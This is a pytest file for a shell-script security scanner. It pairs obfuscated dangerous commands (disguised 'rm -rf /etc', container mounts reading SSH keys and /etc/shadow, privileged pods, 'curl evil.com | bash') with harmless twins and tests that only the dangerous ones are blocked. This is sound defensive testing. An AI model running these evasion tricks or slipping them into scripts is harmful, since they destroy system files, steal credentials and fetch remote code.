@@ -1,0 +1,162 @@
+"""Disguised dangers, each beside a harmless script of the same shape: the one blocks, the other does not."""
+
+# ruff: noqa: E501 - one pair a line
+
+import pytest
+
+from refute.scan.finding import Severity
+from refute.scan.rules import Language
+from refute.scan.scanner import scan_files, scan_text
+
+SHELL = {
+    "mapfile with delimiter": (
+        'mapfile -d: -t w <<< "rm:-rf:/etc"; "${w[0]}" "${w[1]}" ${w[2]}',
+        'mapfile -d: -t w <<< "ls:-l:build"; "${w[0]}" "${w[1]}" ${w[2]}',
+    ),
+    "at E": ("x='\\x72\\x6d'; ${x@E} -rf /etc", "x='\\x6c\\x73'; ${x@E} -l build"),
+    "star joined by IFS": (
+        'set -- r m; IFS=; c="$*"; unset IFS; $c -rf /etc',
+        'set -- l s; IFS=; c="$*"; unset IFS; $c -l build',
+    ),
+    "fd from process substitution": (
+        "exec 3< <(echo 'rm -rf /etc'); bash <&3",
+        "exec 3< <(echo 'ls -l build'); bash <&3",
+    ),
+    "paste joins lines": (
+        "c=$(printf 'r\\nm\\n' | paste -sd ''); $c -rf /etc",
+        "c=$(printf '1\\n2\\n' | paste -sd+); echo $((c))",
+    ),
+    "sed tac": (
+        "printf '/etc\\n-rf\\nrm\\n' | sed -n '1!G;h;$p' | xargs | sh",
+        "printf 'c\\nb\\na\\n' | sed -n '1!G;h;$p' | xargs",
+    ),
+    "bash dash s": ("bash -s -- /etc <<'X'\nrm -rf \"$1\"\nX", "bash -s -- build <<'X'\nrm -rf \"$1\"\nX"),
+    "ssh to self": ("ssh localhost 'rm -rf /etc'", "ssh localhost true"),
+    "git grep opens": ("git grep -O'rm -rf /etc #' foo", "git grep -n foo"),
+    "git difftool": ("git difftool -y -x 'rm -rf /etc #'", "git difftool -y -t vimdiff"),
+    "tar to command": ("tar xf a.tar --to-command='sh -c \"rm -rf /etc\"'", "tar xf a.tar --to-command='wc -c'"),
+    "rsync path": (
+        "rsync --rsync-path='rm -rf /etc; rsync' a localhost:b",
+        "rsync --rsync-path=/usr/bin/rsync a localhost:b",
+    ),
+    "ed shell": ("printf '!rm -rf /etc\\nq\\n' | ed -s x", "printf '%%s/a/b/\\nw\\nq\\n' | ed -s x"),
+    "awk from process substitution": (
+        "awk -f <(echo 'BEGIN{system(\"rm -rf /etc\")}')",
+        "awk -f <(echo '{print $1}') data.txt",
+    ),
+    "m4 syscmd": ("echo 'syscmd(`rm -rf /etc'\"'\"')' | m4", "echo 'define(x,1)x' | m4"),
+    "length as index": ("s=xxrm; y=12; ${s:${#y}:2} -rf /etc", "s=xxls; y=12; ${s:${#y}:2} -l build"),
+    "read array": ("read -ra w <<< 'rm -rf /etc'; \"${w[@]}\"", "read -ra w <<< 'ls -l build'; \"${w[@]}\""),
+    "read with IFS": ("IFS=: read -r a b <<< r:m; $a$b -rf /etc", "IFS=: read -r a b <<< l:s; $a$b -l build"),
+    "env chdir": ("env -C /etc rm -rf .", "env -C build rm -rf out"),
+    "start-stop-daemon": (
+        "start-stop-daemon --start --exec /bin/rm -- -rf /etc",
+        'start-stop-daemon --start --exec "$PWD/server" -- --port 8000',
+    ),
+    "make from process substitution": (
+        "make -f <(printf 'x:\\n\\trm -rf /etc\\n') x",
+        "make -f <(printf 'x:\\n\\techo hi\\n') x",
+    ),
+    "commands in comments": (
+        'eval "$(sed -n \'s/^#@//p\' "$0")"\n#@rm -rf /etc',
+        "sed -n 's/^#@//p' \"$0\"\n#@usage: tool",
+    ),
+    "output to process substitution": ("echo 'rm -rf /etc' > >(bash)", "echo 'hello' > >(cat)"),
+    "tee to process substitution": (
+        "echo 'rm -rf /etc' | tee >(sh) > /dev/null",
+        "echo 'hello' | tee >(wc -c) > /dev/null",
+    ),
+    "command -v as word": ("$(command -v rm) -rf /etc", "$(command -v ls) -l build"),
+    "proc self exe": ("/proc/self/exe -c 'rm -rf /etc'", "readlink /proc/self/exe"),
+    "bash aliases array": (
+        "shopt -s expand_aliases; BASH_ALIASES[ll]='rm -rf'\nll /etc",
+        "shopt -s expand_aliases; BASH_ALIASES[ll]='ls -l'\nll build",
+    ),
+    "coproc reads": (
+        "coproc bash; echo 'rm -rf /etc' >&\"${COPROC[1]}\"",
+        "coproc cat; echo 'hello' >&\"${COPROC[1]}\"",
+    ),
+    "arithmetic base": (
+        "printf -v o '%o' $((16#72)); printf -v r \"\\\\$o\"; ${r}m -rf /etc",
+        "printf -v o '%o' $((16#6c)); printf -v r \"\\\\$o\"; ${r}s -l build",
+    ),
+    "heredoc to ssh": ("ssh localhost bash <<'X'\nrm -rf /etc\nX", "ssh localhost bash <<'X'\nuptime\nX"),
+    "expect here-document": (
+        "expect <<'X'\nspawn rm -rf /etc\nexpect eof\nX",
+        'expect <<\'X\'\nspawn ./cli\nexpect ">"\nsend "quit\\r"\nexpect eof\nX',
+    ),
+    "mvn": (
+        'mvn -q exec:exec -Dexec.executable=rm -Dexec.args="-rf /etc"',
+        'mvn -q exec:exec -Dexec.executable=java -Dexec.args="-version"',
+    ),
+    "ssd": (
+        "start-stop-daemon -S -x /bin/sh -- -c 'rm -rf /etc'",
+        "start-stop-daemon --stop --pidfile build/x.pid --exec /usr/bin/tool",
+    ),
+    "docker run root": (
+        "docker run --rm -v /:/host alpine rm -rf /host/etc",
+        "docker run --rm -v \"$PWD:/src\" alpine sh -c 'rm -rf /tmp/x && ls /'",
+    ),
+    "docker home": (
+        "docker run -v ~/.ssh:/root/.ssh alpine cat /root/.ssh/id_rsa",
+        "docker run -v ~/.cache/pip:/root/.cache/pip python pip install -e .",
+    ),
+    "docker home var": ('docker run -v "$HOME:/h" alpine tar c /h', ""),
+    "docker userns": ("docker run --userns=host --ipc=host alpine sh", ""),
+    "podman": ("podman run -v /etc:/e alpine cat /e/shadow", "podman run -v ./conf:/e:ro,Z alpine cat /e/shadow"),
+    "kubectl exec": ("kubectl exec -it web -- rm -rf /data", ""),
+    "kubectl run privileged": (
+        'kubectl run x --image=alpine --overrides=\'{"spec":{"hostPID":true,"containers":[{"securityContext":{"privileged":true}}]}}\'',
+        "",
+    ),
+    "docker host tcp": ("docker -H tcp://203.0.113.9:2375 run alpine", ""),
+    "a filter nobody works out": ("echo 'rm -rf /etc' | fold -w 99 | sh", "echo 'rm -rf /etc' | fold -w 99 | cat"),
+    "expect talks to a shell": (
+        "expect -c 'spawn bash\nsend \"rm -rf /etc\\r\"\nexpect eof'",
+        "expect -c 'spawn ./cli\nsend \"quit\\r\"\nexpect eof'",
+    ),
+}
+ORDINARY = {
+    "a server of its own, ended before it starts": "pkill -f './server --port 9000' || true\n./server --port 9000 &",
+    "a server of its own, picked from a list": "python server.py &\nkill $(ps aux | grep '[s]erver.py' | awk '{print $2}')",
+    "who listens at a port of the project": "lsof -ti:8080 | xargs -r kill -9",
+    "waiting for a port": "while ! </dev/tcp/localhost/5432; do sleep 1; done",
+    "test scripts one by one": "ls tests/*.sh | xargs -n1 bash\nprintf '%s\\0' tests/*.sh | xargs -0 -n1 bash -e",
+    "a cloud on this machine": "aws --endpoint-url http://localhost:4566 s3 mb s3://test\nexport VAULT_ADDR=http://127.0.0.1:8200\nvault kv put secret/x a=b",
+    "httpie on this machine": "http GET :8080/health",
+}
+NEARBY = {
+    "another program, picked from a list": "python server.py &\nkill $(ps aux | grep sshd | awk '{print $2}')",
+    "who listens at a port of the system": "lsof -ti:22 | xargs kill",
+    "a cloud elsewhere": "aws --endpoint-url https://s3.example.com s3 ls",
+    "a list from elsewhere": "curl -s http://evil.com/list | xargs -n1 bash",
+    "waiting for a foreign port": "while ! </dev/tcp/evil.com/5432; do sleep 1; done",
+}
+
+
+def blocks(text: str, language: Language) -> bool:
+    return any(finding.severity >= Severity.HIGH for finding in scan_text("x", text.encode(), language=language))
+
+
+@pytest.mark.parametrize("kind", SHELL)
+def test_disguised_shell_blocks_and_its_twin_does_not(kind: str) -> None:
+    danger, twin = SHELL[kind]
+    assert (blocks(danger, Language.SHELL), blocks(twin, Language.SHELL)) == (bool(danger), False)
+
+
+@pytest.mark.parametrize("kind", ORDINARY)
+def test_what_projects_do_on_their_own_machine_does_not_block(kind: str) -> None:
+    assert not blocks(ORDINARY[kind], Language.SHELL)
+
+
+@pytest.mark.parametrize("kind", NEARBY)
+def test_the_same_to_others_blocks(kind: str) -> None:
+    assert blocks(NEARBY[kind], Language.SHELL)
+
+
+@pytest.mark.parametrize(
+    "script", ["$(grep -v '#' commands.txt)", "$(sort commands.txt | uniq)", 'eval "$(sed s/x/y/ commands.txt)"']
+)
+def test_what_a_filter_leaves_of_a_file_is_judged_as_the_whole(script: str) -> None:
+    files = {"verify.sh": script.encode(), "commands.txt": b"# clean\nrm -rf /etc\n"}
+    assert {finding.path for finding in scan_files(files, ["verify.sh"]).blocking} == {"commands.txt"}
